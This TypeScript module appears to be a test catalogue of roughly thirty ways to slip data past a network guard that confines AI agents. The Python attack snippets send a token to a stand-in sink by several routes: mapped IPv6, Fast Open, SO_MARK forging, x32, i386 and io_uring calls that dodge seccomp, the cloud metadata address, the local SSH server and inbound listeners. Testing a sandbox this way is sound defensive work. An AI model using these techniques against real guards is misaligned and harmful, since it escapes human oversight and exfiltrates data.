/** Ways round by TCP: other addresses for the same thing, other calls that connect, other options. */
import type { Vector } from "../vector.ts";

const UNLISTED = ["unlisted"];

export const TCP: readonly Vector[] = [
  {
    name: "tcp-ipv4",
    what: "connects to an unlisted IPv4 address",
    attack: `dial(T["sink4"], T["port"]["sink"])`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-ipv6",
    what: "connects to an unlisted IPv6 address",
    attack: `dial(T["sink6"], T["port"]["sink"])`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-mapped",
    what: "connects to ::ffff:a.b.c.d from an IPv6 socket",
    attack: `dial("::ffff:" + T["sink4"], T["port"]["sink"])`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-other-ports",
    what: "tries ports of mail, web and SSH in turn",
    attack: `
for port in (22, 25, 80, 443):
    try:
        dial(T["sink4"], port)
    except OSError as error:
        last = error
    else:
        break
else:
    raise last`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-registered",
    what: "connects to a registered backend that policy forbids",
    attack: `dial(T["sink4"], T["port"]["registered"])`,
    closedBy: ["policy"],
  },
  {
    name: "tcp-nonblocking",
    what: "connects without waiting and sends when the socket is ready",
    attack: `
import select
sock = stream(T["sink4"])
sock.setblocking(False)
step("connect")
result = sock.connect_ex((T["sink4"], T["port"]["sink"]))
if result not in (0, errno.EINPROGRESS):
    raise OSError(result, os.strerror(result))
select.select([], [sock], [], 2)
sock.settimeout(2)
pour(sock)`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-unspec-reconnect",
    what: "connects to its own listener, dissolves by AF_UNSPEC, connects elsewhere with the same socket",
    attack: `
own = stream("127.0.0.1")
own.bind(("127.0.0.1", 0))
own.listen()
sock = stream("127.0.0.1")
step("connect to itself")
sock.connect(own.getsockname())
step("dissolve")
if LIBC.connect(sock.fileno(), struct.pack("=H14x", socket.AF_UNSPEC), 16) < 0:
    raise OSError(ctypes.get_errno(), "dissolve")
step("connect")
sock.connect((T["sink4"], T["port"]["sink"]))
pour(sock)`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-unspecified-address",
    what: "connects to 0.0.0.0, which means this host, for a local service",
    attack: `dial("0.0.0.0", T["port"]["loopback"])`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-unspecified-ipv6",
    what: "connects to ::, which means this host, for a local service",
    attack: `dial("::", T["port"]["loopback"])`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-fast-open-send",
    what: "sends with MSG_FASTOPEN, without connect",
    attack: `
sock = stream(T["sink4"])
step("sendto")
sock.sendto(TOKEN, 0x20000000, (T["sink4"], T["port"]["sink"]))
pour(sock)`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-fast-open-connect",
    what: "connects with TCP_FASTOPEN_CONNECT, which defers the handshake to the first write",
    attack: `
sock = stream(T["sink4"])
sock.setsockopt(socket.IPPROTO_TCP, 30, 1)
step("connect")
sock.connect((T["sink4"], T["port"]["sink"]))
pour(sock)`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-multipath",
    what: "uses an MPTCP socket",
    attack: `
step("socket")
sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
step("connect")
sock.connect((T["sink4"], T["port"]["mptcp"]))
pour(sock)`,
    closedBy: ["socket-kind"],
  },
  {
    name: "tcp-source-port-reuse",
    what: "takes over the source port of a connection that has just ended",
    attack: `
own = stream("127.0.0.1")
own.bind(("127.0.0.1", 0))
own.listen()
first = stream("127.0.0.1")
first.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
first.bind(("0.0.0.0", 0))
port = first.getsockname()[1]
step("connect to itself")
first.connect(own.getsockname())
first.close()
sock = stream(T["sink4"])
sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
step("bind")
sock.bind(("0.0.0.0", port))
step("connect")
sock.connect((T["sink4"], T["port"]["sink"]))
pour(sock)`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-bound-device",
    what: "binds the socket to a device, past the routing table",
    attack: `
sock = stream(T["sink4"])
step("SO_BINDTODEVICE")
sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0" if T["local"] == "container" else b"host0")
step("connect")
sock.connect((T["sink4"], T["port"]["sink"]))
pour(sock)`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-forged-mark",
    what: "forges SO_MARK, by which some guards know their own traffic, with every value up to 64",
    attack: `
for mark in range(1, 65):
    sock = stream(T["sink4"])
    step("SO_MARK")
    sock.setsockopt(socket.SOL_SOCKET, 36, mark)
    step("connect")
    try:
        sock.connect((T["sink4"], T["port"]["sink"]))
    except OSError as error:
        last = error
        continue
    pour(sock)
    break
else:
    raise last`,
    closedBy: ["unlisted", "capability"],
    capability: "NET_ADMIN",
  },
  {
    name: "tcp-upper-protocol",
    what: "asks the kernel for TLS of its own (TCP_ULP) over a connection to nowhere allowed",
    attack: `
sock = stream(T["sink4"])
step("connect")
sock.connect((T["sink4"], T["port"]["sink"]))
try:
    sock.setsockopt(socket.IPPROTO_TCP, 31, b"tls")
except OSError:
    pass
pour(sock)`,
    closedBy: UNLISTED,
  },
  {
    name: "tcp-i386-calls",
    what: "makes and connects the socket by 32-bit socketcall from a 64-bit program",
    attack: `
import subprocess
step("int 0x80")
code = subprocess.run([T["programs"] + "/i386-calls", T["sink4"], str(T["port"]["sink"]), T["token"]]).returncode
if code:
    raise OSError(abs(code), "i386")`,
    closedBy: ["unlisted", "seccomp"],
  },
  {
    name: "tcp-x32-calls",
    what: "makes the socket by the x32 form of the system call",
    attack: `
step("x32 socket")
sock = socket.socket(fileno=call(0x40000000 + 41, socket.AF_INET, socket.SOCK_STREAM, 0))
step("connect")
sock.connect((T["sink4"], T["port"]["sink"]))
pour(sock)`,
    closedBy: ["unlisted", "seccomp"],
  },
  {
    name: "io-uring",
    what: "makes, connects and writes the socket by io_uring, without such system calls",
    attack: `
import subprocess
step("io_uring")
code = subprocess.run([T["programs"] + "/io-uring", T["sink4"], str(T["port"]["sink"]), T["token"]]).returncode
if code:
    raise OSError(abs(code), "io_uring")`,
    closedBy: ["unlisted", "seccomp"],
  },
  {
    name: "loopback-service",
    what: "connects to a service on 127.0.0.1 of its host",
    attack: `dial("127.0.0.1", T["port"]["loopback"])`,
    closedBy: UNLISTED,
  },
  {
    name: "loopback-service-ipv6",
    what: "connects to a service on ::1 of its host",
    attack: `dial("::1", T["port"]["loopback"])`,
    closedBy: UNLISTED,
  },
  {
    name: "loopback-other-address",
    what: "connects to 127.0.0.2, where the wildcard listener of somebody else may be",
    attack: `
sock = stream("127.0.0.1")
step("connect")
sock.bind(("127.0.0.2", 0))
sock.connect(("127.0.0.1", T["port"]["loopback"]))
pour(sock)`,
    closedBy: UNLISTED,
  },
  {
    name: "ssh-localhost",
    what: "speaks to the SSH server of its own host, which runs commands outside of the agent",
    attack: `dial("127.0.0.1", T["port"]["ssh"], b"SSH-2.0-" + TOKEN + b"\\r\\n")`,
    closedBy: UNLISTED,
  },
  {
    name: "cloud-metadata",
    what: "asks the cloud's metadata address",
    attack: `dial(T["metadata4"], 80, b"GET /latest/meta-data/" + TOKEN + b" HTTP/1.1\\r\\n\\r\\n")`,
    closedBy: UNLISTED,
  },
  {
    name: "our-listener",
    what: "connects to the guard's own listener, to be taken for somebody whose connection was redirected",
    attack: `dial("127.0.0.1", T["listener"])`,
    closedBy: ["our-listener"],
  },
  {
    name: "our-listener-other-loopback",
    what: "connects to the guard's own listener by 127.0.0.1 mapped into IPv6",
    attack: `dial("::ffff:127.0.0.1", T["listener"])`,
    closedBy: ["our-listener"],
  },
  {
    name: "listens-for-local-outsider",
    what: "listens on loopback; an outsider on the host dials in and takes the data away",
    attack: `
own = stream("127.0.0.1")
own.bind(("127.0.0.1", 0))
own.listen()
ask("local", do="dial", host="127.0.0.1", port=own.getsockname()[1])
step("accept")
peer, _ = own.accept()
pour(peer)`,
    closedBy: [],
    stated: [
      {
        limit: "an agent's own listener on loopback may be dialled by processes outside",
        remedy: "no untrusted local processes; containers and namespaces of their own for agents",
      },
    ],
  },
  {
    name: "listens-for-other-host",
    what: "listens on every address; another host dials in and takes the data away",
    attack: `
own = stream("0.0.0.0")
own.bind(("0.0.0.0", 0))
own.listen()
ask("far", do="dial", host=T["own4"], port=own.getsockname()[1])
step("accept")
peer, _ = own.accept()
pour(peer)`,
    closedBy: ["not-admitted"],
  },
  {
    name: "listens-for-other-host-ipv6",
    what: "the same over IPv6",
    attack: `
own = stream("::")
own.bind(("::", 0))
own.listen()
ask("far", do="dial", host=T["own6"], port=own.getsockname()[1])
step("accept")
peer, _ = own.accept()
pour(peer)`,
    closedBy: ["not-admitted"],
  },
  {
    name: "listens-unasked",
    what: "listens without bind, which calls no bind hook; another host dials in",
    attack: `
own = stream("0.0.0.0")
step("listen")
own.listen()
ask("far", do="dial", host=T["own4"], port=own.getsockname()[1])
step("accept")
peer, _ = own.accept()
pour(peer)`,
    closedBy: ["not-admitted"],
  },
];
